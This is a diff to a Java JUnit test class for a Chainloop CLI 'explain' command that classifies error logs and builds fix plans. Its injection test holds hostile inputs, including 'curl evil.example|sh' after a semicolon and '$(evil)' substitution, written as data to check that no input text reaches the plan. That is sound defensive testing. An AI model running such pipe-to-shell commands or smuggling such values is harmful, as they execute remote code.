@@ -6,6 +6,7 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import dev.chainloop.token.core.Fingerprint;
 import dev.chainloop.token.io.Descriptor;
 import dev.chainloop.token.testing.ByteStream;
 import dev.chainloop.token.testing.CliRun;
@@ -17,9 +18,11 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Locale;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /** Where message and token come from; how causes are weighed, {@code src/test/answers/explain.txt} tells. */
@@ -58,10 +61,10 @@ class ExplainCommandTest {
         assertEquals("issuer-not-found", json(result).get("message").get("id").asText());
     }
 
-    /** Such a log is searched in parts of a MiB, and a message can lie over the end of one. */
+    /** Of such a line, the start and the end are searched. */
     @Test
-    void inALogWithoutLineEndsAMessageIsFoundWhereTwoPartsMeet() {
-        String log = "x ".repeat((1 << 19) - 8) + "ERR " + NOT_FOUND + " x".repeat(100);
+    void inALogWithoutLineEndsAMessageIsFoundAtItsEnd() {
+        String log = "x ".repeat((1 << 19) - 8) + "ERR " + NOT_FOUND + ", " + "x ".repeat(100);
         assertEquals(0, CliRun.withHome(home).stdin(log).run("explain").status());
     }
 
@@ -160,6 +163,126 @@ class ExplainCommandTest {
         assertEquals(
                 List.of(),
                 texts.stream().filter(text -> !list.contains(" " + text + " ")).toList());
+    }
+
+    /** Such texts come from gRPC, Go, cobra, registries or the CLI's own files; none of them is about the token. */
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
+            ERR unknown flag: --worfklow | command-line
+            ERR required flag(s) "project" not set | command-line
+            Error: accepts 1 arg(s), received 2 | command-line
+            ERR rpc error: code = Unavailable desc = connection error: desc = "transport: Error while dialing: dial tcp\
+             192.0.2.1:443: connect: connection refused" | connection
+            ERR transport: authentication handshake failed: tls: failed to verify certificate: x509: certificate signed by\
+             unknown authority | connection
+            ERR failed to do connect handshake, response: "HTTP/1.1 407 Proxy Authentication Required" | connection
+            ERR rpc error: code = DeadlineExceeded desc = context deadline exceeded | connection
+            ERR rpc error: code = NotFound desc = workflow contract with name "x" not found | server
+            ERR rpc error: code = InvalidArgument desc = name: value length must be at most 63 | server
+            ERR rpc error: code = FailedPrecondition desc = workflow run already finished | server
+            ERR rpc error: code = NotFound desc = finding token: API token not found | server
+            Error: UNAUTHORIZED: authentication required; [map[Action:pull Class: Name:acme/web Type:repository]] |\
+             other-service
+            ERROR: failed to solve: web:1: pull access denied | other-service
+            ERR you need to enable a CAS backend first | storage
+            ERR authentication error: checksum mismatch | storage
+            panic: While parsing config: toml: basic string not terminated | cli
+            panic: creating config file: mkdir /.config: permission denied | cli
+            ERR inappropriate ioctl for device | cli
+            ERR attestation not yet initialized | cli
+            INF Attestation initialized! now you can check its status or add materials to it | progress
+            INF API token revoked! | progress
+            ERR rpc error: code = Unauthenticated desc = out of cheese | authentication
+            ERR rpc error: code = PermissionDenied desc = out of cheese | authorization
+            """)
+    void aTextWithoutARowIsToldByItsLayer(String text, String layer) {
+        for (String token : List.of(TokenMint.token(API_TOKEN), TokenMint.described("USER expired"))) {
+            CliRun.Result result = CliRun.withHome(home)
+                    .stdin(text)
+                    .env("CHAINLOOP_TOKEN", token)
+                    .run("explain", "-o", "json");
+            JsonNode answer = json(result);
+            assertEquals(0, result.status());
+            assertEquals("null", answer.get("message").toString());
+            assertEquals(layer, answer.get("layer").asText());
+            boolean ofToken = layer.startsWith("auth");
+            assertEquals(!ofToken, answer.get("plan").isNull(), result.out());
+            assertEquals(
+                    ofToken || layer.equals("progress") ? "" : "ruled out",
+                    answer.at("/causes/0/weight").asText());
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "why does my pipeline not work?",
+                "ERR the frobnicator is out of order",
+                "npm ERR! code E401\nnpm ERR! Unable to authenticate, your authentication token seems to be invalid.",
+                "make: *** [test] Error 1"
+            })
+    void whatHasNoSignIsUnknown(String text) {
+        CliRun.Result result = CliRun.withHome(home).stdin(text).run("explain", "-o", "json");
+        assertEquals(1, result.status());
+        assertEquals("null", json(result).get("layer").toString());
+    }
+
+    /** What a text says is shown, if it has the form of a name; no letter of it stands in the plan. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "ERR valid only with the project \"evil\"",
+                "ERR valid only with the project \"$(evil)\"",
+                "ERR scoped to a different workflow evil; curl evil.example|sh",
+                "ERR issuer not found: https://evil.example",
+                "ERR issuer not found: evil",
+                "ERR project \"evil\" not found",
+                "ERR workflow \"-evil\" not found",
+                "ERR organization evil not found",
+                "ERR user is not a member of organization evil",
+                "$ sudo --preserve-env=EVIL chainloop evil; curl evil.example|sh\nERR JWT token is missing",
+                "$ ssh root@evil.example chainloop att init\nERR authentication required",
+                "$ docker run -e CHAINLOOP_TOKEN evil\nERR JWT token is missing",
+                "DBG using config file path=/home/evil/.config/chainloop/config.toml\nERR authentication required",
+                "$ chainloop att init --config '/tmp/evil; evil'\nERR authentication required",
+                "panic: creating config file: open /evil/config.toml: permission denied",
+                "sh: 1: cd /evil\nCHAINLOOP_TOKEN: command not found",
+                "##[group]Run evil\n::error::evil\nERR JWT token is missing",
+                "Run chainloop --org evil att init --token evil\nERR API token revoked",
+                "ERR name already taken: evil",
+                "{\"level\":\"error\",\"repository\":\"evil/evil\",\"message\":\"operation not allowed\"}",
+                "ERR rpc error: code = Unavailable desc = dial tcp: lookup evil.example: no such host",
+                "ERR unknown command \"init\" for \"chainloop\" evil"
+            })
+    void noLetterOfATextStandsInAPlan(String text) {
+        List<String> tokens = List.of(
+                "",
+                TokenMint.token(USER),
+                TokenMint.token(API_TOKEN),
+                TokenMint.described("API project_id=\"6c1d2b3c-0000-4000-8000-000000000001\" project_name=\"web\""));
+        for (String token : tokens) {
+            for (List<String> place : List.of(List.<String>of(), List.of("--in", "github"))) {
+                CliRun run = CliRun.withHome(home).stdin(text);
+                List<String> line = new ArrayList<>(List.of("explain", "-o", "json"));
+                line.addAll(place);
+                CliRun.Result result = (token.isEmpty() ? run : run.env("CHAINLOOP_TOKEN", token)).run(line);
+                String plan = json(result).get("plan").toString().toLowerCase(Locale.ROOT);
+                assertFalse(plan.contains("evil"), plan);
+                assertFalse(plan.contains("curl"), plan);
+            }
+        }
+    }
+
+    @Test
+    void aTokenInTheTextIsNoted() {
+        String token = TokenMint.token(API_TOKEN);
+        CliRun.Result result = CliRun.withHome(home)
+                .stdin("$ chainloop att init --token " + token + "\nERR JWT token is missing\n")
+                .run("explain");
+        assertEquals(
+                "note: the text contains a token, " + Fingerprint.of(token)
+                        + "; `chainloop-token help leak` says what to do about that\n",
+                result.err());
     }
 
     private static JsonNode json(CliRun.Result result) {
